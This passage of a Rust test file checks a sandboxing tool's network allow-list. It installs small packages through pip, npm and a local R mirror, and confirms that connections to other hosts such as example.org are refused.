                   done = subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-cache-dir', '--target', 'packages', 'six'], \
                   capture_output=True, text=True)\n\
                   print(done.stderr, done.stdout)\n\
                   sys.path.insert(0, 'packages')\nimport six\nprint(six.__file__)";
    let run = ["run", "--sandbox", "workspace", "--network"];
    let ended = sponde.run(&[&run[..], &["allow:pypi", "-c", install]].concat());
    assert!(
        ended.stdout.contains("packages/six.py"),
        "{}\n{}",
        ended.stdout,
        ended.stderr
    );
    // What a tool is told by its own settings is another host.
    let elsewhere = sponde
        .with("PIP_INDEX_URL", "https://index.corp.test/simple")
        .with("PIP_RETRIES", "0");
    let show = "import urllib.request, os\nprint(os.environ['PIP_INDEX_URL'])\n\
                try:\n urllib.request.urlopen('https://example.org')\nexcept OSError as error:\n print(error)\n\
                try:\n urllib.request.urlopen('https://index.corp.test')\nexcept OSError as error:\n print(error)";
    let ended = elsewhere.run(&[&run[..], &["allow:pypi", "-c", show]].concat());
    let lines: Vec<&str> = ended.stdout.lines().collect();
    assert_eq!(
        lines,
        [
            "https://index.corp.test/simple",
            "<urlopen error Tunnel connection failed: 403 Forbidden>",
            "<urlopen error Tunnel connection failed: 502 Bad Gateway>",
        ],
        "{}",
        ended.stderr
    );
}

/// As with pip: npm and R reach the registries that they are set up for, and nothing else.
#[test]
fn npm_installs_through_the_allow_list() {
    let sponde = crate::support::Sponde::new();
    let install = "import subprocess\n\
        done = subprocess.run(['npm', 'install', '--no-audit', '--no-fund', '--prefix', 'packages', 'is-number'], \
        capture_output=True, text=True)\nprint(done.stdout, done.stderr)\n\
        code = \"console.log('a number: ' + require('./packages/node_modules/is-number')(7))\"\n\
        print(subprocess.run(['node', '-e', code], capture_output=True, text=True).stdout)\n\
        print(subprocess.run(['curl', '-sS', 'https://example.org'], capture_output=True, text=True).stderr)";
    let ended = sponde.run(&[
        "run",
        "--sandbox",
        "workspace",
        "--network",
        "allow:npm",
        "-c",
        install,
    ]);
    assert!(ended.stdout.contains("a number: true"), "{ended}");
    assert!(
        ended.stdout.contains("403") || ended.stderr.contains("refused a connection"),
        "{ended}"
    );
    assert!(sponde.path("packages/node_modules/is-number").is_dir());
}

/// From a mirror on this machine, which R is set up for by a person's profile.
#[test]
fn r_installs_and_plots_through_the_allow_list() {
    // By an address that is not the sandbox's own as well.
    let probe = UdpSocket::bind("0.0.0.0:0").unwrap();
    let Ok(address) = probe
        .connect("192.0.2.1:9")
        .and_then(|()| probe.local_addr())
    else {
        return crate::support::not_tested("packages of R: this machine has no address");
    };
    let address = address.ip();
    let sponde = crate::support::Sponde::new();
    sponde.add_kernel("r", &other("r").spec.argv);
    let mirror = tempfile::tempdir().unwrap();
    let files = mirror.path().join("src/contrib");
    let source = mirror.path().join("tiny");
    std::fs::create_dir_all(source.join("R")).unwrap();
    std::fs::create_dir_all(&files).unwrap();
    let description = "Package: tiny\nVersion: 0.1\n";
    let more =
        "Title: Tiny\nDescription: Tiny.\nLicense: MIT\nAuthor: A\nMaintainer: A <a@example.org>\n";
    std::fs::write(source.join("DESCRIPTION"), format!("{description}{more}")).unwrap();
    std::fs::write(source.join("NAMESPACE"), "export(answer)\n").unwrap();
    std::fs::write(source.join("R/answer.R"), "answer <- function() 42\n").unwrap();
    let index = format!("{description}NeedsCompilation: no\n");
    std::fs::write(files.join("PACKAGES"), index).unwrap();
    let built = std::process::Command::new("R")
        .args(["CMD", "build", "--no-build-vignettes"])
        .arg(&source)
        .current_dir(&files)
        .output()
        .unwrap();
    assert!(
        built.status.success(),
        "{}",
        String::from_utf8_lossy(&built.stderr)
    );
    let port = free_port();
    let mut server = std::process::Command::new(crate::support::python_prefix().join("bin/python"))
        .args([
            "-m",
            "http.server",
            &port.to_string(),
            "--bind",
            "0.0.0.0",
            "--directory",
        ])
        .arg(mirror.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    crate::support::eventually(|| TcpStream::connect(("127.0.0.1", port)).is_ok());
    let profile = format!("options(repos = c(CRAN = 'http://{address}:{port}'))\n");
    sponde.write("../.Rprofile", profile);
    let install = "dir.create('packages')\n\
        install.packages('tiny', lib = 'packages', quiet = TRUE)\n\
        library(tiny, lib.loc = 'packages')\ncat('it says', answer(), '\\n')\nplot(1:3)\n\
        tryCatch(readLines('http://example.org'), error = function(e) cat('stopped'), warning = function(e) cat('stopped'))";
    let run = [
        "run",
        "--kernel",
        "r",
        "--sandbox",
        "workspace",
        "-o",
        "out.ipynb",
        "--network",
    ];
    let ended = sponde.run(&[&run[..], &["allow:cran", "-c", install]].concat());
    let _ = server.kill();
    let _ = server.wait();
    assert!(ended.stdout.contains("it says 42"), "{ended}");
    assert!(ended.stdout.contains("stopped"), "{ended}");
    assert!(sponde.read("out.ipynb").contains("image/png"), "{ended}");
    assert!(sponde.path("packages/tiny").is_dir());
}

fn free_port() -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    listener.local_addr().unwrap().port()
}

#[test]
fn attempts_with_an_allow_list_are_as_many_as_it_is_said() {
    let count = ATTEMPTS.len() + IN_NAMESPACES.len();
    let words = format!("{count} with an allow-list");
    assert!(
        include_str!("../../SECURITY.md").contains(&words),
        "{words}"
    );
}
